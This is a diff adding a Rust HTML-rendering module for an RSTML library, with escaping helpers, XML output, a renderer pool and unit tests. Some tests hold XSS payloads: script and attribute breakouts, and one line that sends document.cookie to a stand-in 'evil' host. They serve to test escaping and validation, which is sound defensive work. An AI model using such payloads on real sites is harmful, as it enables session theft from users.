@@ -0,0 +1,821 @@
+use std::{
+    borrow::Cow,
+    fmt::Write,
+    ops::{Deref, DerefMut},
+    sync::{Mutex, PoisonError},
+};
+
+use crate::{cache::RenderCache, prelude::*};
+
+/// Elements that never have children and are rendered without a closing tag
+pub const VOID_ELEMENTS: &[&str] = &[
+    "area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "param", "source",
+    "track", "wbr",
+];
+
+/// `Content-Type` of rendered documents, as sent by the web framework integrations
+pub const HTML_CONTENT_TYPE: &str = "text/html; charset=utf-8";
+
+/// Returns true if the tag is an HTML void element, e.g. `br` or `img`
+#[must_use]
+pub fn is_void_element(tag: &str) -> bool {
+    VOID_ELEMENTS.contains(&tag)
+}
+
+const TEXT_SPECIAL: &[char] = &['&', '<', '>'];
+const ATTRIBUTE_SPECIAL: &[char] = &['&', '<', '>', '"', '\''];
+
+// Writes the input with the given characters escaped, the runs between them as is
+fn escape_to<W: Write>(input: &str, special: &[char], out: &mut W) -> std::fmt::Result {
+    let mut rest = input;
+    while let Some(i) = rest.find(special) {
+        out.write_str(&rest[..i])?;
+        out.write_str(match rest.as_bytes()[i] {
+            b'&' => "&amp;",
+            b'<' => "&lt;",
+            b'>' => "&gt;",
+            b'"' => "&quot;",
+            _ => "&#39;",
+        })?;
+        rest = &rest[i + 1..];
+    }
+    out.write_str(rest)
+}
+
+// Escapes the given characters, only allocating if any are present
+fn escape<'a>(input: &'a str, special: &[char]) -> Cow<'a, str> {
+    if !input.contains(special) {
+        return Cow::Borrowed(input);
+    }
+    let mut out = String::with_capacity(input.len() + 8);
+    escape_to(input, special, &mut out).expect("writing to a String cannot fail");
+    Cow::Owned(out)
+}
+
+/// Escapes text content for use between tags
+#[must_use]
+pub fn escape_text(input: &str) -> Cow<'_, str> {
+    escape(input, TEXT_SPECIAL)
+}
+
+/// Escapes an attribute value for use inside double quotes
+#[must_use]
+pub fn escape_attribute(input: &str) -> Cow<'_, str> {
+    escape(input, ATTRIBUTE_SPECIAL)
+}
+
+/// Escapes JSON for embedding in a `script` element
+///
+/// `<`, `>` and `&` only appear inside JSON strings, where their `\u` escapes mean the
+/// same, so `</script>` and `<!--` cannot end or change the script. The line and
+/// paragraph separators, which older JavaScript does not allow in strings, are
+/// escaped too.
+#[must_use]
+pub fn escape_script_json(json: &str) -> Cow<'_, str> {
+    const SPECIAL: &[char] = &['<', '>', '&', '\u{2028}', '\u{2029}'];
+    if !json.contains(SPECIAL) {
+        return Cow::Borrowed(json);
+    }
+    let mut out = String::with_capacity(json.len() + 16);
+    for c in json.chars() {
+        match c {
+            '<' | '>' | '&' | '\u{2028}' | '\u{2029}' => {
+                write!(out, "\\u{:04x}", c as u32).expect("writing to a String cannot fail");
+            }
+            c => out.push(c),
+        }
+    }
+    Cow::Owned(out)
+}
+
+/// Escapes trusted code for embedding in a `script` element
+///
+/// `</script` would end the element and `<!--` change how browsers parse the rest of
+/// it, so they are written `<\/script` and `<\!--`, which mean the same inside
+/// JavaScript strings, regular expressions and comments.
+#[must_use]
+pub fn escape_script(code: &str) -> Cow<'_, str> {
+    escape_after_lt(code, &["</script", "<!--"])
+}
+
+/// Escapes trusted CSS for embedding in a `style` element
+///
+/// `</style` would end the element, so it is written `<\/style`, which means the
+/// same inside CSS strings and comments.
+#[must_use]
+pub fn escape_style(css: &str) -> Cow<'_, str> {
+    escape_after_lt(css, &["</style"])
+}
+
+// Writes a backslash after the `<` of each case-insensitive match of the prefixes,
+// which start with `<`, allocating only if there is one
+fn escape_after_lt<'t>(code: &'t str, prefixes: &[&str]) -> Cow<'t, str> {
+    let mut out = String::new();
+    let mut last = 0;
+    for (i, _) in code.match_indices('<') {
+        let rest = &code.as_bytes()[i..];
+        let matches = prefixes.iter().any(|prefix| {
+            rest.get(..prefix.len())
+                .is_some_and(|start| start.eq_ignore_ascii_case(prefix.as_bytes()))
+        });
+        if matches {
+            if out.is_empty() {
+                out.reserve(code.len() + 8);
+            }
+            out.push_str(&code[last..=i]);
+            out.push('\\');
+            last = i + 1;
+        }
+    }
+    if last == 0 {
+        return Cow::Borrowed(code);
+    }
+    out.push_str(&code[last..]);
+    Cow::Owned(out)
+}
+
+// Elements whose text is code, which browsers do not unescape
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub(crate) enum RawText {
+    Script,
+    Style,
+}
+
+impl RawText {
+    pub(crate) fn of(element: &Element) -> Option<Self> {
+        match element.name.as_str() {
+            "script" => Some(RawText::Script),
+            "style" => Some(RawText::Style),
+            _ => None,
+        }
+    }
+
+    // Escapes the code only where it would end the element
+    pub(crate) fn escape(self, code: &str) -> Cow<'_, str> {
+        match self {
+            RawText::Script => escape_script(code),
+            RawText::Style => escape_style(code),
+        }
+    }
+}
+
+pub(crate) fn is_raw_text(element: &Element) -> bool {
+    RawText::of(element).is_some()
+}
+
+// The child of the element as it is written if it is text holding code
+pub(crate) fn raw_text<'t>(element: &Element, child: &'t Node) -> Option<Cow<'t, str>> {
+    match child {
+        Node::Text(text) => Some(RawText::of(element)?.escape(&text.content)),
+        _ => None,
+    }
+}
+
+/// Writes text content escaped for use between tags, without allocating
+///
+/// # Errors
+/// Errors if writing to `out` fails
+pub fn write_escaped_text<W: Write>(input: &str, out: &mut W) -> std::fmt::Result {
+    escape_to(input, TEXT_SPECIAL, out)
+}
+
+/// Writes an attribute value escaped for use inside double quotes, without allocating
+///
+/// # Errors
+/// Errors if writing to `out` fails
+pub fn write_escaped_attribute<W: Write>(input: &str, out: &mut W) -> std::fmt::Result {
+    escape_to(input, ATTRIBUTE_SPECIAL, out)
+}
+
+/// Trait for rendering RSTML items to HTML
+///
+/// Text content and attribute values are escaped, raw nodes are written verbatim.
+/// Text inside a `script` or `style` is emitted as code, not HTML-escaped, with only
+/// `</script`, `</style` and `<!--` escaped so it cannot end the element. Such text
+/// must therefore never hold untrusted input; [`Block::validate`] reports text in
+/// scripts so it can be checked, and [`Node::script`] marks code as trusted.
+/// Rendering writes straight to the sink, without building a string per node.
+pub trait Render {
+    /// Renders the item into the given writer
+    ///
+    /// # Errors
+    /// Errors if writing to `out` fails
+    fn render_to<W: Write>(&self, out: &mut W) -> std::fmt::Result;
+
+    /// Renders the item into a new string
+    #[must_use]
+    fn render(&self) -> String {
+        let mut out = String::new();
+        self.render_into(&mut out);
+        out
+    }
+
+    /// Appends the rendered item to a string, e.g. a buffer reused across requests
+    /// after being cleared
+    fn render_into(&self, out: &mut String) {
+        self.render_to(out)
+            .expect("writing to a String cannot fail");
+    }
+}
+
+impl Render for Attribute<'_> {
+    /// Writes `key="value"`, or nothing if the key is not valid, see
+    /// [`Attribute::has_valid_key`]
+    fn render_to<W: Write>(&self, out: &mut W) -> std::fmt::Result {
+        if !self.has_valid_key() {
+            return Ok(());
+        }
+        out.write_str(&self.key)?;
+        if self.is_boolean() {
+            return Ok(());
+        }
+        out.write_str("=\"")?;
+        write_escaped_attribute(&self.value, out)?;
+        out.write_char('"')
+    }
+}
+
+impl Render for Text<'_> {
+    fn render_to<W: Write>(&self, out: &mut W) -> std::fmt::Result {
+        write_escaped_text(&self.content, out)
+    }
+}
+
+impl Render for Node<'_> {
+    fn render_to<W: Write>(&self, out: &mut W) -> std::fmt::Result {
+        render_node(self, Namespace::Html, None, out)
+    }
+}
+
+impl Render for Element<'_> {
+    fn render_to<W: Write>(&self, out: &mut W) -> std::fmt::Result {
+        render_element(self, Namespace::Html, None, out)
+    }
+}
+
+impl Render for Block<'_> {
+    fn render_to<W: Write>(&self, out: &mut W) -> std::fmt::Result {
+        self.iter_nodes().try_for_each(|node| node.render_to(out))
+    }
+}
+
+// Renders a node, looking shared elements up in the cache if there is one
+pub(crate) fn render_node<W: Write>(
+    node: &Node,
+    parent: Namespace,
+    cache: Option<&RenderCache>,
+    out: &mut W,
+) -> std::fmt::Result {
+    match node {
+        Node::Text(text) => text.render_to(out),
+        Node::Element(element) => render_element(element, parent, cache, out),
+        Node::Shared(element) => match cache {
+            Some(cache) => out.write_str(&cache.render_shared(element, parent)),
+            None => render_element(element, parent, None, out),
+        },
+        Node::Raw(raw) => out.write_str(raw),
+        // `--` cannot appear inside a comment, it would end it early
+        Node::Comment(comment) => {
+            out.write_str("<!--")?;
+            for (i, part) in comment.split("--").enumerate() {
+                if i > 0 {
+                    out.write_str("- -")?;
+                }
+                out.write_str(part)?;
+            }
+            out.write_str("-->")
+        }
+        // Unfilled slots render nothing
+        Node::Slot(_) => Ok(()),
+        // Unresolved directives render their default content
+        Node::Directive(directive) => directive
+            .children()
+            .iter()
+            .try_for_each(|child| render_node(child, parent, cache, out)),
+        // Without a translator the key stands in for the message
+        #[cfg(feature = "i18n")]
+        Node::Translation(translation) => write_escaped_text(&translation.key, out),
+    }
+}
+
+// Renders an element, declaring its namespace if it differs from its parent's
+pub(crate) fn render_element<W: Write>(
+    element: &Element,
+    parent: Namespace,
+    cache: Option<&RenderCache>,
+    out: &mut W,
+) -> std::fmt::Result {
+    if open_tag(element, parent, out)? {
+        for child in &element.children {
+            match raw_text(element, child) {
+                Some(code) => out.write_str(&code)?,
+                None => render_node(child, element.namespace, cache, out)?,
+            }
+        }
+        close_tag(element.name.as_str(), out)?;
+    }
+    Ok(())
+}
+
+// Writes the start tag of an element, returning false if the element is complete,
+// i.e. it is void or self-closed, and true if its children and end tag follow
+pub(crate) fn open_tag<W: Write>(
+    element: &Element,
+    parent: Namespace,
+    out: &mut W,
+) -> Result<bool, std::fmt::Error> {
+    open_tag_with(element, &element.attributes, parent, out, write_attribute)
+}
+
+// Writes an attribute with its leading space, `foreign` if the element is not HTML
+pub(crate) fn write_attribute<W: Write>(
+    attribute: &Attribute,
+    foreign: bool,
+    out: &mut W,
+) -> std::fmt::Result {
+    if !attribute.has_valid_key() {
+        return Ok(());
+    }
+    out.write_char(' ')?;
+    // XML requires every attribute to have a value
+    if foreign && attribute.is_boolean() {
+        out.write_str(&attribute.key)?;
+        out.write_str("=\"\"")
+    } else {
+        attribute.render_to(out)
+    }
+}
+
+// Like `open_tag`, with the attributes, which stand in for the element's own, written
+// by the given function
+pub(crate) fn open_tag_with<W: Write>(
+    element: &Element,
+    attributes: &[Attribute],
+    parent: Namespace,
+    out: &mut W,
+    mut write_attribute: impl FnMut(&Attribute, bool, &mut W) -> std::fmt::Result,
+) -> Result<bool, std::fmt::Error> {
+    let name = element.name.as_str();
+    let foreign = !element.namespace.is_html();
+    out.write_char('<')?;
+    out.write_str(name)?;
+    if element.namespace != parent && !attributes.iter().any(|a| a.key == "xmlns") {
+        out.write_str(" xmlns=\"")?;
+        out.write_str(element.namespace.uri())?;
+        out.write_char('"')?;
+    }
+    for attribute in attributes {
+        write_attribute(attribute, foreign, out)?;
+    }
+    if element.namespace.is_html() && is_void_element(name) {
+        out.write_char('>')?;
+        return Ok(false);
+    }
+    if foreign && element.children.is_empty() {
+        out.write_str("/>")?;
+        return Ok(false);
+    }
+    out.write_char('>')?;
+    Ok(true)
+}
+
+pub(crate) fn close_tag<W: Write>(name: &str, out: &mut W) -> std::fmt::Result {
+    out.write_str("</")?;
+    out.write_str(name)?;
+    out.write_char('>')
+}
+
+fn render_xml_node<W: Write>(node: &Node, out: &mut W) -> std::fmt::Result {
+    match node {
+        Node::Element(element) => render_xml_element(element, out),
+        Node::Shared(element) => render_xml_element(element, out),
+        node => render_node(node, Namespace::Html, None, out),
+    }
+}
+
+// Renders an element as XML: every element is closed, empty ones as `<name/>`,
+// and every attribute has a value
+fn render_xml_element<W: Write>(element: &Element, out: &mut W) -> std::fmt::Result {
+    let name = element.name.as_str();
+    out.write_char('<')?;
+    out.write_str(name)?;
+    for attribute in element.attributes.iter().filter(|a| a.has_valid_key()) {
+        out.write_char(' ')?;
+        out.write_str(&attribute.key)?;
+        out.write_str("=\"")?;
+        write_escaped_attribute(&attribute.value, out)?;
+        out.write_char('"')?;
+    }
+    if element.children.is_empty() {
+        return out.write_str("/>");
+    }
+    out.write_char('>')?;
+    for child in &element.children {
+        render_xml_node(child, out)?;
+    }
+    close_tag(name, out)
+}
+
+impl Element<'_> {
+    /// Renders the element as XML, for feeds, sitemaps and other non-HTML documents
+    ///
+    /// Unlike [`Render::render`], HTML void elements get no special treatment,
+    /// empty elements are self-closed, boolean attributes are written as `key=""`
+    /// and no `xmlns` is added, so namespaces must be set as attributes.
+    #[must_use]
+    pub fn render_xml(&self) -> String {
+        let mut out = String::new();
+        render_xml_element(self, &mut out).expect("writing to a String cannot fail");
+        out
+    }
+}
+
+impl Block<'_> {
+    /// Renders the document as XML, see [`Element::render_xml`]
+    #[must_use]
+    pub fn render_xml(&self) -> String {
+        let mut out = String::new();
+        for node in self.iter_nodes() {
+            render_xml_node(node, &mut out).expect("writing to a String cannot fail");
+        }
+        out
+    }
+}
+
+/// Reusable rendering state, for servers rendering many documents
+///
+/// The output buffer is kept between renders, so once it has grown to fit the
+/// largest page rendering no longer allocates. Share renderers between threads
+/// with a [`RendererPool`].
+#[derive(Debug, Clone, Default)]
+pub struct Renderer {
+    buffer: String,
+}
+
+impl Renderer {
+    #[must_use]
+    pub fn new() -> Self {
+        Renderer::default()
+    }
+
+    #[must_use]
+    pub fn with_capacity(capacity: usize) -> Self {
+        Renderer {
+            buffer: String::with_capacity(capacity),
+        }
+    }
+
+    /// Renders the item, replacing the previous output
+    pub fn render<R: Render + ?Sized>(&mut self, item: &R) -> &str {
+        self.buffer.clear();
+        item.render_into(&mut self.buffer);
+        &self.buffer
+    }
+
+    /// Renders the item and writes it to `out`, e.g. a socket or a response body
+    ///
+    /// # Errors
+    /// Errors if writing to `out` fails
+    pub fn write_to<R: Render + ?Sized>(
+        &mut self,
+        item: &R,
+        out: &mut impl std::io::Write,
+    ) -> std::io::Result<()> {
+        out.write_all(self.render(item).as_bytes())
+    }
+
+    /// Bytes the buffer holds without growing
+    #[must_use]
+    pub fn capacity(&self) -> usize {
+        self.buffer.capacity()
+    }
+
+    /// Shrinks the buffer to at most `capacity` bytes, e.g. after an unusually large page
+    pub fn shrink_to(&mut self, capacity: usize) {
+        self.buffer.clear();
+        self.buffer.shrink_to(capacity);
+    }
+}
+
+/// A pool of [`Renderer`]s shared between threads, see [`RendererPool::get`]
+#[derive(Debug, Default)]
+pub struct RendererPool {
+    idle: Mutex<Vec<Renderer>>,
+    max_capacity: Option<usize>,
+}
+
+impl RendererPool {
+    #[must_use]
+    pub fn new() -> Self {
+        RendererPool::default()
+    }
+
+    /// Bounds the memory held by idle renderers, buffers grown past `capacity`
+    /// bytes are shrunk when they return to the pool
+    #[must_use]
+    pub fn with_max_capacity(mut self, capacity: usize) -> Self {
+        self.max_capacity = Some(capacity);
+        self
+    }
+
+    /// Takes an idle renderer, or a new one if all are in use
+    ///
+    /// The renderer returns to the pool when the guard is dropped.
+    pub fn get(&self) -> PooledRenderer<'_> {
+        let renderer = self
+            .idle
+            .lock()
+            .unwrap_or_else(PoisonError::into_inner)
+            .pop()
+            .unwrap_or_default();
+        PooledRenderer {
+            pool: self,
+            renderer,
+        }
+    }
+
+    /// Number of renderers waiting in the pool
+    #[must_use]
+    pub fn idle(&self) -> usize {
+        self.idle
+            .lock()
+            .unwrap_or_else(PoisonError::into_inner)
+            .len()
+    }
+}
+
+/// A renderer borrowed from a [`RendererPool`], returned to it when dropped
+#[derive(Debug)]
+pub struct PooledRenderer<'p> {
+    pool: &'p RendererPool,
+    renderer: Renderer,
+}
+
+impl Deref for PooledRenderer<'_> {
+    type Target = Renderer;
+
+    fn deref(&self) -> &Renderer {
+        &self.renderer
+    }
+}
+
+impl DerefMut for PooledRenderer<'_> {
+    fn deref_mut(&mut self) -> &mut Renderer {
+        &mut self.renderer
+    }
+}
+
+impl Drop for PooledRenderer<'_> {
+    fn drop(&mut self) {
+        let mut renderer = std::mem::take(&mut self.renderer);
+        if let Some(capacity) = self.pool.max_capacity
+            && renderer.capacity() > capacity
+        {
+            renderer.shrink_to(capacity);
+        }
+        self.pool
+            .idle
+            .lock()
+            .unwrap_or_else(PoisonError::into_inner)
+            .push(renderer);
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use std::sync::Arc;
+
+    use super::RendererPool;
+    use crate::prelude::*;
+
+    #[test]
+    fn test_render_element() {
+        let element = element("a")
+            .with_key_value("href", "/search?q=a&b")
+            .with_child("Fish & <Chips>");
+        assert_eq!(
+            element.render(),
+            r#"<a href="/search?q=a&amp;b">Fish &amp; &lt;Chips&gt;</a>"#
+        );
+    }
+
+    #[test]
+    fn test_render_void_and_boolean() {
+        let input = element("input")
+            .with_key_value("name", "agree")
+            .with_attribute(Attribute::boolean("checked"));
+        assert_eq!(input.render(), r#"<input name="agree" checked>"#);
+        assert_eq!(element("br").render(), "<br>");
+        // Empty values are kept, only boolean attributes lose theirs
+        let empty = element("input").with_key_value("value", "");
+        assert_eq!(empty.render(), r#"<input value="">"#);
+        let svg = element("svg").with_child(element("g").with_attribute(Attribute::boolean("x")));
+        assert_eq!(
+            svg.render(),
+            r#"<svg xmlns="http://www.w3.org/2000/svg"><g x=""/></svg>"#
+        );
+    }
+
+    #[test]
+    fn test_style_and_attribute_keys() {
+        let style = element("style").with_child("a > b::after { content: '&</STYLE>' }");
+        assert_eq!(
+            style.render(),
+            r"<style>a > b::after { content: '&<\/STYLE>' }</style>"
+        );
+        // Keys that would break out of the tag are left out
+        let link = element("a")
+            .with_key_value("href", "/")
+            .with_key_value("x><script>alert(1)</script", "")
+            .with_key_value("onclick=\"go()\" title", "x")
+            .with_key_value("", "empty")
+            .with_key_value("data-id", "1");
+        assert_eq!(link.render(), r#"<a href="/" data-id="1"></a>"#);
+        let violations = Document::new().with_child(link).validate();
+        assert_eq!(violations.len(), 3);
+        assert!(
+            violations
+                .iter()
+                .all(|v| v.code == "invalid-attribute-name")
+        );
+    }
+
+    #[test]
+    fn test_render_raw() {
+        let block = Block::new()
+            .with_child(Node::raw("<b>trusted</b>"))
+            .with_child("<b>escaped</b>");
+        assert_eq!(block.render(), "<b>trusted</b>&lt;b&gt;escaped&lt;/b&gt;");
+    }
+
+    #[test]
+    fn test_script() {
+        let page = Document::new()
+            .with_child(Node::script(r#"if (a < b) log("</SCRIPT><!--");"#))
+            .with_child(Node::script_src("/app.js", ScriptLoading::default()))
+            .with_child(Node::script_src("/main.js", ScriptLoading::Module))
+            .with_child(element("script").with_child("if (a && b) alert('</script>')"));
+        assert_eq!(
+            page.render(),
+            concat!(
+                r#"<script>if (a < b) log("<\/SCRIPT><\!--");</script>"#,
+                r#"<script src="/app.js" defer></script>"#,
+                r#"<script src="/main.js" type="module"></script>"#,
+                r#"<script>if (a && b) alert('<\/script>')</script>"#,
+            )
+        );
+        let violations = page.validate();
+        assert_eq!(violations.len(), 1);
+        assert_eq!(violations[0].code, "untrusted-script-text");
+
+        // Text parsed from a script body is code and renders unchanged
+        let html = r#"<script>if (a < b && c > 0) { log("<p>") }</script>"#;
+        assert_eq!(crate::convert::from_html(html).render(), html);
+        let (_, parsed) = Document::parse(r#"script { "if (a < b) { go('&amp;') }" }"#).unwrap();
+        assert_eq!(
+            parsed.render(),
+            "<script>if (a < b) { go('&amp;') }</script>"
+        );
+    }
+
+    #[test]
+    fn test_escape_code() {
+        use std::borrow::Cow;
+
+        use super::{escape_script, escape_style};
+        // Code without end tags is borrowed as is
+        assert!(matches!(
+            escape_script("if (a < b) f(\"</p>\")"),
+            Cow::Borrowed(_)
+        ));
+        assert!(matches!(escape_style("a < b { }"), Cow::Borrowed(_)));
+        assert_eq!(
+            escape_script("x</ScRiPt <!-- </scrip <!- <</SCRIPT"),
+            r"x<\/ScRiPt <\!-- </scrip <!- <<\/SCRIPT"
+        );
+        assert_eq!(
+            escape_style("a{}</STYLE></style>é</Style"),
+            r"a{}<\/STYLE><\/style>é<\/Style"
+        );
+        assert_eq!(escape_script("<"), "<");
+        assert_eq!(escape_style("</styl"), "</styl");
+    }
+
+    #[test]
+    fn test_script_text_is_code() {
+        // Markup in script text is not escaped, so user input there would run as code
+        let user = "\"; fetch('//evil?' + document.cookie); \"<b>&amp;";
+        let script = element("script").with_child(format!("let name = \"{user}\";"));
+        assert_eq!(
+            script.render(),
+            r#"<script>let name = ""; fetch('//evil?' + document.cookie); "<b>&amp;";</script>"#
+        );
+        let page = Document::new().with_child(script);
+        assert_eq!(page.validate()[0].code, "untrusted-script-text");
+        // The same text outside a script is escaped
+        let p = element("p").with_child(user);
+        assert_eq!(
+            p.render(),
+            "<p>\"; fetch('//evil?' + document.cookie); \"&lt;b&gt;&amp;amp;</p>"
+        );
+    }
+
+    #[cfg(feature = "serde")]
+    #[test]
+    fn test_json_ld() {
+        #[derive(serde::Serialize)]
+        struct Article {
+            #[serde(rename = "@context")]
+            context: &'static str,
+            headline: &'static str,
+        }
+
+        let article = Article {
+            context: "https://schema.org",
+            headline: "</script><script>alert(1)</script> & <!--",
+        };
+        assert_eq!(
+            Node::json_ld(&article).unwrap().render(),
+            concat!(
+                r#"<script type="application/ld+json">{"@context":"https://schema.org","#,
+                r#""headline":"\u003c/script\u003e\u003cscript\u003ealert(1)\u003c/script\u003e "#,
+                r#"\u0026 \u003c!--"}</script>"#,
+            )
+        );
+    }
+
+    #[test]
+    fn test_render_into_reuses_buffer() {
+        let page = element("p")
+            .with_key_value("title", "\"quoted\" & 'single'")
+            .with_child("a < b");
+        let mut buffer = String::with_capacity(256);
+        let capacity = buffer.capacity();
+        for _ in 0..3 {
+            buffer.clear();
+            page.render_into(&mut buffer);
+            assert_eq!(
+                buffer,
+                r#"<p title="&quot;quoted&quot; &amp; &#39;single&#39;">a &lt; b</p>"#
+            );
+        }
+        assert_eq!(buffer.capacity(), capacity);
+    }
+
+    #[test]
+    fn test_renderer_pool() {
+        let pool = RendererPool::new().with_max_capacity(64);
+        let page = element("p").with_child("x".repeat(100));
+        {
+            let mut renderer = pool.get();
+            assert_eq!(renderer.render(&page).len(), 107);
+            let mut sink = Vec::new();
+            renderer.write_to(&element("br"), &mut sink).unwrap();
+            assert_eq!(sink, b"<br>");
+            assert_eq!(pool.idle(), 0);
+        }
+        assert_eq!(pool.idle(), 1);
+        let mut renderer = pool.get();
+        assert!(renderer.capacity() <= 64);
+        assert_eq!(renderer.render(&element("hr")), "<hr>");
+    }
+
+    #[test]
+    fn test_render_comment() {
+        let block = Block::new()
+            .with_child(Node::comment(" header "))
+            .with_child(Node::comment("a --> b"));
+        assert_eq!(block.render(), "<!-- header --><!--a - -> b-->");
+    }
+
+    #[test]
+    fn test_render_svg() {
+        let svg = element("div").with_child(
+            element("svg")
+                .with_key_value("viewBox", "0 0 10 10")
+                .with_child(element("circle").with_key_value("cx", "5")),
+        );
+        assert_eq!(
+            svg.render(),
+            r#"<div><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><circle cx="5"/></svg></div>"#
+        );
+    }
+
+    #[test]
+    fn test_render_shared() {
+        let nav = Arc::new(element("nav").with_child(element("a").with_child("Home")));
+        let page = |title: &'static str| {
+            Block::new()
+                .with_child(Node::shared(nav.clone()))
+                .with_child(element("h1").with_child(title))
+        };
+        let (about, contact) = (page("About"), page("Contact"));
+        assert_eq!(Arc::strong_count(&nav), 3);
+        assert_eq!(about.render(), "<nav><a>Home</a></nav><h1>About</h1>");
+        assert_eq!(contact.select("nav > a").unwrap().count(), 1);
+        assert_eq!(
+            about.children[0].fingerprint(),
+            Node::from((*nav).clone()).fingerprint()
+        );
+    }
+}